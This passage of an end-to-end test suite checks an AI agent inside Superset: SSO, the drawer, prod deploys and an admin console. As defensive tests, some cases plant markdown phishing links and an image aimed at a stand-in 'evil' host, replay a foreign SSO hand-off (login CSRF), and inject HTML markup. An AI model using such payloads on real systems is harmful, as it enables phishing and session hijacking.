    const csrf = await superset.get("/api/v1/security/csrf_token/", { headers: { Authorization: authorization } });
    return { Authorization: authorization, "X-CSRFToken": (await csrf.json()).result, Referer: SUPERSET_DEV };
  }

  it("a dashboard titled as a link and an image is named by that text, inside the agent's own link to it", async () => {
    // a dashboard editor's title, and a tag on it, in dev Superset
    const superset = await request.newContext({ baseURL: SUPERSET_DEV });
    const title = `[Session expired - sign in again](${evil}/login) ![t](${evil}/title)`;
    const tag = `[tag](${evil}/tag)`;
    let created: number | undefined;
    try {
      const headers = await supersetWrites(superset);
      const board = await superset.post("/api/v1/dashboard/", { headers, data: { dashboard_title: title, published: true } });
      expect(board.status(), await board.text()).toBe(201);
      created = (await board.json()).id as number;
      const tagged = await superset.post("/api/v1/tag/", { headers, data: { name: tag, objects_to_tag: [["dashboard", created]] } });
      expect(tagged.status(), await tagged.text()).toBe(201);

      const page = await signedIn(ADMIN);
      await ask(page, "покажи дашборды в dev");
      await expectState(page, "success");
      const answer = page.getByTestId("assistant-message").last().getByTestId("answer");
      const row = answer.locator("tr", { hasText: "Session expired" });
      expect(await row.locator("td").allTextContents()).toEqual([String(created), title, tag]);
      // one link, the agent's own to the dashboard in dev Superset: a configured Superset's, so not
      // marked external (the page learned its origin from ops); nothing the title or tag spelled
      const links = await answer.locator("a").evaluateAll((anchors) => anchors.map((anchor) => [anchor.getAttribute("href"), anchor.dataset.external ?? null]));
      expect(links.length).toBeGreaterThan(1);
      for (const [href, external] of links) {
        expect(href?.startsWith(`${SUPERSET_DEV}/superset/dashboard/`), String(href)).toBe(true);
        expect(external).toBeNull();
      }
      expect(await row.locator("a").textContent()).toBe(title);
      expect(await answer.locator("img").count()).toBe(0);
      await nothingFetched();
    } finally {
      if (created !== undefined) await superset.delete(`/api/v1/dashboard/${created}`, { headers: await supersetWrites(superset) });
      await superset.dispose();
    }
  });
});

const withProvider = SSO_NAME ? describe : describe.skip;
const withoutProvider = SSO_NAME ? describe.skip : describe;

withoutProvider("with no provider configured", () => {
  it("offers the password form alone, and nothing of single sign-on", async () => {
    const page = await newPage();
    await page.goto(`${BASE_URL}/agent?envId=dev`);
    await page.waitForURL(/\/login/);
    await expect.poll(() => page.locator('input[name="password"]').count()).toBe(1);
    expect(await page.getByTestId("sso-sign-in").count()).toBe(0);
    const methods = await page.evaluate(async () => (await fetch("/api/auth/methods")).json());
    expect(methods).toEqual({ password: true, sso: null });
    await signIn(page, ADMIN);
  });
});

withProvider("single sign-on through the company's provider", () => {
  it("signs in with the provider, with the role the person's group maps to, and a new group at the next sign-in", async () => {
    const page = await newPage();
    await page.goto(`${BASE_URL}/agent?envId=dev`);
    await page.waitForURL(/\/login/);
    expect(await page.getByTestId("sso-sign-in").textContent()).toBe(`Войти через ${SSO_NAME}`);
    await shoot(page, "19-sso-login");
    await page.getByTestId("sso-sign-in").click();
    await page.waitForURL(/\/interaction\//);
    await shoot(page, "20-sso-provider");
    await providerSignIn(page, ANA);
    await page.waitForURL(/\/agent/);
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    expect(new URL(page.url()).hash).toBe(""); // the hand-off is gone from the address
    expect(await roleOf(page)).toBe("analyst");
    expect(await header(page)).toEqual({ name: ANA.username, role: "аналитик" });
    await shoot(page, "21-sso-signed-in");

    const people = readFileSync(OIDC_PEOPLE, "utf8");
    const moved = (JSON.parse(people) as { username: string; groups: string[] }[]).map((person) =>
      person.username === ANA.username ? { ...person, groups: ["operators"] } : person,
    );
    try {
      writeFileSync(OIDC_PEOPLE, JSON.stringify(moved));
      const again = await ssoSignedIn(ANA); // a new browser: the provider asks again
      await again.waitForURL(/\/agent/);
      await expect.poll(() => again.getByTestId("connection").getAttribute("data-state")).toBe("connected");
      expect(await roleOf(again)).toBe("operator");
      expect(await header(again)).toEqual({ name: ANA.username, role: "оператор" });
    } finally {
      writeFileSync(OIDC_PEOPLE, people);
    }
  });

  it("in a drawer of a browser the provider does not know, says why and offers its button, never a password form", async () => {
    const page = await newPage(); // no provider session: the silent try comes back refused
    await page.goto(`${BASE_URL}/agent?embedded=1&envId=dev`);
    await page.waitForURL(/\/login/);
    expect(await page.getByTestId("sso-error").textContent()).toBe(
      "Войти без пароля не вышло: в этом браузере вы не вошли в единый вход. Войдите через него — в новом окне.",
    );
    expect(await page.getByTestId("sso-sign-in").getAttribute("target")).toBe("_blank"); // the provider is never framed
    expect(await page.getByTestId("sso-again").count()).toBe(1);
    expect(await page.locator('input[name="password"]').count()).toBe(0);
  });

  /** Someone else's single sign-on in a browser of their own (its own cookies), followed through
   * the provider's form up to ops' callback and no further: the hand-off code its answer's
   * Location carries (`/agent#sso=<code>`), taken without the page ever loading there. */
  async function foreignHandoff(who: Person): Promise<string> {
    const context = await browser.newContext({ viewport: WIDTHS.desktop, locale: "ru-RU" });
    contexts.push(context);
    const page = await context.newPage();
    await page.goto(`${BASE_URL}/api/auth/oidc/start?${new URLSearchParams({ return_to: "/agent" })}`);
    await page.waitForURL(/\/interaction\//);
    await page.locator("#username").fill(who.username);
    await page.locator("#password").fill(who.password);
    // the form sent as the browser would, its redirects followed one at a time (a browser would
    // follow ops' last one to the page, which would take the hand-off itself)
    const form = await page.locator("#username").evaluate((input) => {
      const sent = (input as HTMLInputElement).form!;
      return { action: sent.action, fields: Object.fromEntries(new FormData(sent) as unknown as Iterable<[string, string]>) };
    });
    let answer = await context.request.post(form.action, { form: form.fields, maxRedirects: 0 });
    const hops = [`${answer.status()} ${answer.url()}`];
    for (let hop = 0; hop < 10 && new URL(answer.url()).pathname !== "/api/auth/oidc/callback"; hop++) {
      const next = answer.headers().location;
      if (!next) break;
      answer = await context.request.get(new URL(next, answer.url()).href, { maxRedirects: 0 });
      hops.push(`${answer.status()} ${answer.url()}`);
    }
    const location = answer.headers().location ?? "";
    const code = new URLSearchParams(new URL(location, BASE_URL).hash.slice(1)).get("sso");
    if (!code) throw new Error(`no hand-off after ${hops.join(" → ")} (last Location: ${location || "none"})`);
    return code;
  }

  it("refuses a hand-off carried in from another browser's sign-in, saying why, and signs no one in", async () => {
    // login CSRF: the attacker's own sign-in, its #sso= sent to the person as a link
    const page = await newPage();
    await page.goto(`${BASE_URL}/agent#sso=${await foreignHandoff(ADAM)}`);
    await page.waitForURL(/\/login/);
    expect(await page.getByTestId("sso-error").textContent()).toBe(
      "Этот вход был начат в другом браузере, поэтому он не использован. Войдите здесь сами.",
    );
    expect(await page.evaluate(() => sessionStorage.getItem("sstools.session"))).toBeNull();
    expect(new URL(page.url()).hash).toBe("");
    await shoot(page, "27-sso-foreign");
    // signed in already: the person stays who they are, and is told why nothing changed
    await signIn(page, ANALYST);
    await page.goto("about:blank");
    await page.goto(`${BASE_URL}/agent?envId=dev#sso=${await foreignHandoff(ADAM)}`);
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    expect(await page.getByTestId("sso-error").textContent()).toContain(
      "Вход, начатый в другом браузере, не использован: вы по-прежнему вошли как раньше.",
    );
    expect(await header(page)).toEqual({ name: ANALYST.username, role: "аналитик" });
    expect(await roleOf(page)).toBe("analyst");
    await shoot(page, "28-sso-foreign-kept");
    await page.getByTestId("dismiss-notice").click();
    expect(await page.getByTestId("sso-error").count()).toBe(0);
  });

  it("refuses a person in no mapped group, saying why", async () => {
    const page = await ssoSignedIn(CARL);
    await page.waitForURL(/\/login/);
    expect(await page.getByTestId("sso-error").textContent()).toBe(
      "Ваши группы не дают доступа к агенту. Обратитесь к администратору.",
    );
    expect(await page.evaluate(() => sessionStorage.getItem("sstools.session"))).toBeNull();
    await shoot(page, "22-sso-refused");
  });
});

describe("the drawer inside Superset", () => {
  /** Dev Superset at `path`, signed in there through the provider as `who`, with the drawer open
   * and signed in to the agent by that sign-in alone: no form of the agent's is ever shown. With
   * no provider, Superset's admin and the agent's, each with their own password. */
  async function inSuperset(path: string, who: Person = ADAM): Promise<{ page: Page; drawer: FrameLocator }> {
    const page = await newPage();
    const agentPages: string[] = [];
    page.on("framenavigated", (frame) => {
      if (frame.url().startsWith(BASE_URL)) agentPages.push(new URL(frame.url()).pathname);
    });
    // what Superset answered to the sign-in, for a failure to say (once it left no message at all)
    const signInAnswers: string[] = [];
    page.on("response", (response) => {
      const path = new URL(response.url()).pathname;
      if (path.startsWith("/login") || path.startsWith("/api/v1/security")) {
        signInAnswers.push(`${response.request().method()} ${path} ${response.status()}`);
      }
    });
    await page.goto(`${SUPERSET_DEV}/login/`);
    expect(await page.locator("#sstools-drawer").count()).toBe(0); // not before Superset knows who it is
    if (SSO_NAME) {
      expect(await page.locator("#password").count()).toBe(0); // Superset signs people in through the provider
      await page.getByText(/sign in with sso/i).click();
      await providerSignIn(page, who);
    } else {
      await page.locator("#username").fill(SUPERSET_ADMIN.username);
      await page.locator("#password").fill(SUPERSET_ADMIN.password);
      await page.locator('[data-test="login-button"]').click();
    }
    // signed in once Superset sends the browser to its welcome page; that page's own load (its
    // bundles, cold in a fresh Superset, on a busy machine) is not what this waits for. Superset
    // serves everything from one process: beside another suite on two cores the sign-in alone
    // once took more than the default 30 s, so it gets the time its drawer gets below, and a
    // sign-in that does fail says where the browser was left and what Superset's page said.
    await page.waitForURL(/\/superset\/welcome/, { waitUntil: "commit", timeout: 120_000 }).catch(async (error: unknown) => {
      const said = await page.locator("[role=alert], .ant-message, .ant-alert").allTextContents().catch(() => []);
      throw new Error(
        `not signed in to Superset: left on ${page.url()}, saying "${said.join("; ")}", ` +
          `after ${signInAnswers.join(", ") || "no answer to the sign-in"}: ${String(error)}`,
      );
    });
    await page.goto(`${SUPERSET_DEV}${path}`);
    // the drawer's own elements are in a shadow root: Playwright's CSS locators go into it
    // Superset's own bundles load first, cold in a fresh Superset: beside another suite on two
    // cores that took more than the default 30 s
    await page
      .locator("#sstools-drawer .toggle")
      .click({ timeout: 120_000 })
      .catch(async (error: unknown) => {
        // where Superset left the browser, and whether its page carried the drawer (a case that
        // once failed here under load, with nothing in Superset's log to say why)
        const tagged = (await page.content()).includes("/drawer.js");
        throw new Error(`no drawer on ${page.url()} (drawer script in the page: ${tagged}): ${String(error)}`);
      });
    const drawer = page.frameLocator("#sstools-drawer iframe");
    if (!SSO_NAME) {
      // no provider: the agent's own accounts, its own form
      await drawer.locator('input[name="username"]').fill(ADMIN.username);
      await drawer.locator('input[name="password"]').fill(ADMIN.password);
      await drawer.locator('button[type="submit"]').click();
    }
    await expect.poll(() => drawer.getByTestId("connection").getAttribute("data-state"), { timeout: 30_000 }).toBe("connected");
    if (SSO_NAME) expect(agentPages).not.toContain("/login"); // signed in silently, no second password
    return { page, drawer };
  }

  /** Superset moving to another of its routes as its own links move it (a single-page app). */
  async function navigate(page: Page, path: string): Promise<void> {
    await page.evaluate((to) => {
      history.pushState(null, "", to);
      dispatchEvent(new PopStateEvent("popstate"));
    }, path);
  }

  function chatFrame(page: Page): Frame {
    const frame = page.frames().find((candidate) => new URL(candidate.url()).pathname === "/agent");
    if (!frame) throw new Error("the drawer holds no /agent page");
    return frame;
  }

  function pill(drawer: FrameLocator): Promise<string | null> {
    return drawer.getByTestId("context-pill").textContent({ timeout: 1000 }).catch(() => null);
  }

  async function askIn(drawer: FrameLocator, text: string): Promise<string> {
    const answers = await drawer.getByTestId("assistant-message").count();
    await drawer.getByTestId("composer").fill(text);
    await drawer.getByTestId("composer").press("Enter");
    await expect.poll(() => drawer.getByTestId("assistant-message").count()).toBe(answers + 1);
    const last = drawer.getByTestId("assistant-message").last();
    await last.getByTestId("state-badge").waitFor({ timeout: 120_000 });
    return (await last.textContent()) ?? "";
  }

  it("answers about the dashboard on screen, and follows Superset to another one and to SQL Lab", async () => {
    const { page, drawer } = await inSuperset("/superset/dashboard/legacy-kpis/");
    await expect.poll(() => pill(drawer)).toBe("Контекст: дашборд Legacy KPIs @dev");
    // the drawer names who the agent knows the person as (Superset's sign-in alone, or the agent's own)
    expect(await header(drawer)).toEqual({ name: SSO_NAME ? ADAM.username : ADMIN.username, role: "администратор" });
    await shoot(page, "16-drawer", chatFrame(page)); // Superset's own page, the drawer over it
    const broken = await askIn(drawer, "Is this dashboard healthy?");
    expect(broken).toContain("Legacy uptime"); // its broken chart
    const calls = await drawer.getByTestId("tool-card").evaluateAll((cards) => cards.map((card) => card.dataset.tool));
    expect(calls).toEqual(["get_health_summary"]);

    await navigate(page, "/superset/dashboard/sales-overview/");
    await expect.poll(() => pill(drawer)).toBe("Контекст: дашборд Sales Overview @dev");
    const healthy = await askIn(drawer, "Is this dashboard healthy?");
    expect(healthy).toContain("Sales Overview");
    expect(healthy).not.toContain("Legacy uptime");

    await navigate(page, "/sqllab/");
    await expect.poll(() => pill(drawer)).toBe("Контекст: SQL Lab @dev");
    await page.locator("#sstools-drawer .drawer header button").click(); // closed and opened again:
    await page.locator("#sstools-drawer .toggle").click(); // the same conversation, still there
    expect(await drawer.getByTestId("assistant-message").count()).toBe(2);
  });

  it("a deploy confirmed inside the drawer runs from the dashboard on screen to prod", async () => {
    const { page, drawer } = await inSuperset("/superset/dashboard/orders-events/");
    await expect.poll(() => pill(drawer)).toBe("Контекст: дашборд Orders and Events @dev");
    await askIn(drawer, "задеплой этот дашборд в prod");
    const card = drawer.getByTestId("confirm-card");
    await expect.poll(() => card.getByTestId("confirm-env").textContent()).toBe("prod");
    // the dashboard on screen, by its title beside its id, where it comes from and what changes
    expect(await card.getByTestId("confirm-subject").textContent()).toBe("Orders and Events #2");
    expect(await card.getByTestId("confirm-route").textContent()).toBe("dev → prod");
    expect(await card.getByTestId("confirm-change").textContent()).toContain("«Orders and Events» (#2) из dev");
    await shoot(page, "17-drawer-confirm", chatFrame(page));
    await card.getByTestId("confirm").click({ timeout: 15_000 });
    const last = drawer.getByTestId("assistant-message").last();
    await expect.poll(() => last.getByTestId("task-chip").getAttribute("data-status"), { timeout: 60_000 }).toBe("success");
    // the stack test then finds "Orders and Events" in prod Superset
  });
});

describe("the admin console", () => {
  // How long the agent and convo trust ops' word that a person is active (README "The agent and
  // ops": AGENT_ACCOUNT_CHECK_SECONDS / CONVO_ACCOUNT_CHECK_SECONDS, 5 s, which the stack keeps):
  // past it, every request of a disabled person's is refused.
  const ACCOUNT_CHECK_MS = 5_000;
  const CSV_HEADER =
    "id,created_at,user,tool,env,decision,outcome,task_id,conversation_id,thread_id,service_identity,latency_seconds,tool_args,action,code,calls";

  /** From the chat to the console, by the header's link (an admin's page has one). */
  async function openConsole(page: Page): Promise<void> {
    await page.getByTestId("admin-link").click();
    await page.waitForURL(/\/agent\/admin$/);
  }

  /** `at` as a `datetime-local` input takes it: the browser's local time, to the minute (floored). */
  function localMinute(at: Date): string {
    const pad = (value: number) => String(value).padStart(2, "0");
    return `${at.getFullYear()}-${pad(at.getMonth() + 1)}-${pad(at.getDate())}T${pad(at.getHours())}:${pad(at.getMinutes())}`;
  }

  /** The status and body of a call the page's signed-in person makes with their own token. */
  function answerTo(page: Page, path: string): Promise<string> {
    return page.evaluate(async (url) => {
      const { token } = JSON.parse(sessionStorage.getItem("sstools.session") ?? "{}") as { token: string };
      const answer = await fetch(url, { headers: { Authorization: `Bearer ${token}` } });
      return `${answer.status} ${(await answer.text()).slice(0, 300)}`;
    }, path);
  }

  it("adds a person with a role, changes it, and disabling them ends the session they have open", async () => {
    const page = await signedIn(ADMIN);
    await openConsole(page);
    const me = page.getByTestId("admin-me"); // the console's header names who is signed in, and the role
    await expect.poll(() => me.textContent()).toContain(ADMIN.username);
    expect(await me.textContent()).toContain("администратор");
    const person = { username: `pat-${Date.now()}`, password: "pat-console-pass-123" };
    const form = page.getByTestId("add-person");
    const add = async () => {
      await form.locator('input[name="new-username"]').fill(person.username);
      await form.locator('select[name="new-role"]').selectOption("analyst");
      await form.locator('input[name="new-password"]').fill(person.password);
      await form.locator('input[name="new-password-again"]').fill(person.password);
      await form.getByTestId("add-person-submit").click();
    };
    await add();
    await expect.poll(() => page.getByTestId("add-person-note").textContent()).toBe(`Добавлен(а): ${person.username} (аналитик)`);
    await add(); // the name is taken now: said in words
    await expect.poll(() => page.getByTestId("add-person-note").textContent()).toBe("Такое имя уже занято.");

    await page.getByTestId("people-search").fill(person.username.slice(0, -2)); // a part of the name
    const row = page.locator(`[data-testid="person"][data-username="${person.username}"]`);
    await expect.poll(() => page.getByTestId("person").count()).toBe(1);
    expect(await row.getAttribute("data-role")).toBe("analyst");
    expect(await row.getByTestId("person-last-sign-in").textContent()).toContain("не входил(а)");
    await row.getByTestId("person-role").selectOption("operator");
    await expect.poll(() => row.getByTestId("person-note").textContent()).toBe("Сохранено");
    expect(await row.getAttribute("data-role")).toBe("operator");

    // they sign in with the password given, with the role as changed: an operator, no console
    const theirs = await signedIn(person);
    expect(await roleOf(theirs)).toBe("operator");
    await expect.poll(() => theirs.getByTestId("example").count()).toBeGreaterThan(0); // ops' /me has answered
    expect(await theirs.getByTestId("admin-link").count()).toBe(0);

    // the admin sees how they last signed in (the role filter asks ops again)
    await page.getByTestId("people-role-filter").selectOption("operator");
    const lastSignIn = row.getByTestId("person-last-sign-in");
    await expect.poll(() => lastSignIn.getAttribute("data-method")).toBe("password");
    expect(await lastSignIn.textContent()).toMatch(/по паролю, .+\s+с адреса \S+/);

    // an admin links the account to a subject at the provider (its single sign-ons are then
    // theirs); without a provider, the console says there is none to link to
    const sso = row.getByTestId("person-sso");
    expect(await sso.getAttribute("data-subject")).toBe("");
    await row.getByTestId("person-link").click();
    await row.getByTestId("link-form").locator("input").fill(`${person.username}-sub`);
    await row.getByTestId("link-save").click();
    if (SSO_NAME) {
      await expect.poll(() => sso.getAttribute("data-subject")).toBe(`${person.username}-sub`);
      expect(await row.getByTestId("person-note").textContent()).toBe("Связано: единый вход этого субъекта — эта учётная запись.");
    } else {
      await expect.poll(() => row.getByTestId("person-note").textContent()).toBe("Единый вход не настроен.");
    }
    await shoot(page, "23-admin-people");
    if (SSO_NAME) {
      await row.getByTestId("person-unlink").click();
      await expect.poll(() => sso.getAttribute("data-subject")).toBe("");
    }

    // disabling is asked first; "cancel" leaves them be
    await row.getByTestId("person-disable").click();
    await row.getByTestId("confirm-disable").waitFor();
    await row.getByTestId("confirm-disable-no").click();
    expect(await row.getAttribute("data-active")).toBe("true");
    await row.getByTestId("person-disable").click();
    await row.getByTestId("confirm-disable-yes").click();
    await expect.poll(() => row.getAttribute("data-active")).toBe("false");
    const disabled = Date.now();
    expect(await row.getByTestId("person-status").textContent()).toBe("отключён");

    // their open page: past the bound, what they do is refused and they are back at sign-in
    await new Promise((resolve) => setTimeout(resolve, disabled + ACCOUNT_CHECK_MS + 1000 - Date.now()));
    await theirs.getByTestId("composer").fill("покажи дашборды в dev");
    await theirs.getByTestId("composer").press("Enter");
    await theirs.waitForURL(/\/login/, { timeout: 15_000 });
    await theirs.getByTestId("session-ended").waitFor();
    expect(await theirs.evaluate(() => sessionStorage.getItem("sstools.session"))).toBeNull();
    expect(await theirs.getByTestId("assistant-message").count()).toBe(0); // nothing was answered

    // each change is in ops' own trail, by the admin who made it
    await page.getByTestId("tab-ops-audit").click();
    const trail = page.getByTestId("admin-ops-audit");
    await trail.locator('input[name="user"]').fill(ADMIN.username);
    await trail.locator('input[name="action"]').fill("user.change");
    await trail.getByTestId("ops-audit-show").click();
    const changes = trail.locator('[data-testid="ops-audit-row"]', { hasText: person.username });
    await expect.poll(() => changes.count()).toBe(2); // the role, then disabled
    expect(await changes.first().locator("td.detail").textContent()).toContain('"active":false');
  });

  it("finds a confirmed prod deploy by person and environment, opens its record, and exports it as CSV", async () => {
    const started = new Date();
    const page = await signedIn(ADMIN);
    await ask(page, "покажи дашборды в dev"); // a command of theirs in another environment
    await expectState(page, "success");
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "needs_confirmation");
    await page.getByTestId("confirm-card").getByTestId("confirm").click({ timeout: 15_000 });
    await expectState(page, "started");
    const chip = page.getByTestId("assistant-message").last().getByTestId("task-chip");
    const taskId = ((await chip.locator("code").textContent()) ?? "").trim();
    expect(taskId).not.toBe("");
    await expect.poll(() => chip.getAttribute("data-status"), { timeout: 60_000 }).toBe("success");

    await openConsole(page);
    await page.getByTestId("tab-agent-audit").click();
    const filters = page.getByTestId("audit-filters");
    await filters.locator('input[name="user"]').fill(ADMIN.username);
    await filters.locator('select[name="env"]').selectOption("prod");
    await filters.locator('input[name="since"]').fill(localMinute(started));
    await filters.getByTestId("audit-show").click();
    const rows = page.getByTestId("audit-row");
    const row = page.locator(`[data-testid="audit-row"][data-task="${taskId}"]`);
    // what the filters name alone (the whole listing first shown gives way to it): the admin's
    // commands in prod since the test began, this deploy among them
    const shown = async () => [...new Set(await rows.evaluateAll((found) => found.map((each) => `${each.dataset.user}@${each.dataset.env}`)))];
    await expect.poll(shown).toEqual([`${ADMIN.username}@prod`]);
    await row.waitFor();
    expect(await row.getAttribute("data-tool")).toBe("deploy_dashboard");
    expect(await row.getAttribute("data-decision")).toBe("confirmed");
    expect(await row.getAttribute("data-outcome")).toBe("started");
    await shoot(page, "24-admin-audit");

    await row.click();
    const record = page.getByTestId("audit-record");
    const recordId = (await row.getAttribute("data-id")) ?? "";
    await expect.poll(() => record.getAttribute("data-id")).toBe(recordId);
    expect(await record.getByTestId("record-task").textContent()).toBe(taskId);
    expect(await record.getByTestId("record-user").textContent()).toBe(ADMIN.username);
    expect(JSON.parse((await record.getByTestId("record-args").textContent()) ?? "{}")).toMatchObject({ dashboard_id: 1, env_id: "prod" });
    await shoot(page, "25-admin-record");

    // the CSV of the filters shown: its header, the rows shown, this deploy among them
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("audit-export").click()]);
    expect(download.suggestedFilename()).toBe("assistant-audit.csv");
    const [header, ...lines] = readFileSync(await download.path(), "utf8").trim().split("\r\n");
    expect(header).toBe(CSV_HEADER);
    expect(lines.map((line) => line.split(",")[0])).toEqual(await rows.evaluateAll((found) => found.map((each) => each.dataset.id)));
    const ours = lines.find((line) => line.startsWith(`${recordId},`)) ?? "";
    expect(ours.split(",").slice(2, 8)).toEqual([ADMIN.username, "deploy_dashboard", "prod", "confirmed", "started", taskId]);
  });

  it("shows a record's arguments as the characters typed, never as markup", async () => {
    const started = new Date();
    const page = await signedIn(ADMIN);
    // a new dashboard's title holding markup, turned down on its card: nothing is made
    const markup = "<b>bold</b><img src=x>";
    await ask(page, `Создай новый дашборд «${markup}» на деве`);
    await expectState(page, "needs_confirmation");
    await page.getByTestId("confirm-card").getByTestId("reject").click();
    await expectState(page, "cancelled");

    await openConsole(page);
    await page.getByTestId("tab-agent-audit").click();
    const filters = page.getByTestId("audit-filters");
    await filters.locator('input[name="user"]').fill(ADMIN.username);
    await filters.locator('input[name="tool"]').fill("superset_create_dashboard");
    await filters.locator('select[name="decision"]').selectOption("needs_confirmation");
    await filters.locator('input[name="since"]').fill(localMinute(started));
    await filters.getByTestId("audit-show").click();
    const card = page.locator('[data-testid="audit-row"][data-tool="superset_create_dashboard"][data-decision="needs_confirmation"]');
    await card.first().click();
    const args = page.getByTestId("audit-record").getByTestId("record-args");
    await expect.poll(async () => JSON.parse((await args.textContent()) ?? "{}")).toMatchObject({ env_id: "dev", title: markup });
    expect(await args.locator("*").count()).toBe(0); // characters, not elements
  });

  it("a non-admin is not offered the console, and its address tells them it is for admins", async () => {
    const page = await signedIn(ANALYST);
    await expect.poll(() => page.getByTestId("example").count()).toBeGreaterThan(0); // ops' /me has answered
    expect(await page.getByTestId("admin-link").count()).toBe(0);
    await page.goto(`${BASE_URL}/agent/admin`);
    const refused = page.getByTestId("admin-refused");
    await refused.waitFor();
    expect(await refused.textContent()).toContain("Эта страница — только для администраторов. Ваша роль: аналитик");
    expect(await page.getByTestId("admin-people").count()).toBe(0);
    expect(await page.getByTestId("tab-people").count()).toBe(0);
    // and what the console would read refuses them too
    expect(await answerTo(page, "/api/admin/users")).toMatch(/^403 .*"permission_denied"/);
    expect(await answerTo(page, "/api/assistant/audit")).toMatch(/^403 .*"permission_denied"/);
    await shoot(page, "26-admin-refused");
  });
});
